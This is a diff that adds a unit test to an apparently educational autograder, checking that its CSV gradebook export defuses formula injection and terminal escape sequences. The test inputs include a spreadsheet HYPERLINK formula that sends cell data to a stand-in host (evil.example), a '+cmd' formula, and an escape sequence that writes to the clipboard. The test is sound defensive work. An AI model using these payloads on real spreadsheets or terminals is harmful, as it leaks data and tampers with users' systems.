@@ -2126,6 +2126,29 @@ def grading_units_suite():
                     found3[("03", 1)] is None and found3[("04", 1)] == found[("04", 1)]
                 res.append(("grading/units/regions_are_found_and_text_outside_them_named", bool(ok),
                             "changed %s; %s" % (changed2, found3.get(("03", 1)))))
+            # A batch's CSV: a student named like a formula, or with a terminal's
+            # escapes in the name, reaches the gradebook as text (red team, fourth round)
+            import batch
+            import csv
+            lab = harness_lab()
+            if lab:
+                reports = {}
+                for who in ('=HYPERLINK("http://evil.example/?"&A1,"ok")', "+1+cmd",
+                            "alice\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2K"):
+                    r = grade.Report(lab, True)
+                    r.rows = [{"name": "lab/t", "score": 1, "max_score": 1, "output": "",
+                               "hidden": False}]
+                    r.notes = ["@SUM(1+1) \x1b[31mred"]
+                    reports[who] = r
+                path = os.path.join(tmp, "grades.csv")
+                batch.write_csv(path, lab, reports)
+                with open(path, newline="") as f:
+                    text = f.read()
+                cells = [c for row in csv.reader(text.splitlines()) for c in row]
+                bad = [c for c in cells if c[:1] in "=+-@" or grade.CONTROL.search(c)]
+                res.append(("grading/units/csv_cells_are_no_formulas_and_no_terminal_escapes",
+                            not bad and "'=HYPERLINK" in text and "alice\\x1b]52" in text,
+                            "bad cells %r\n%s" % (bad, text)))
         return res
     return "grading/units", run
 
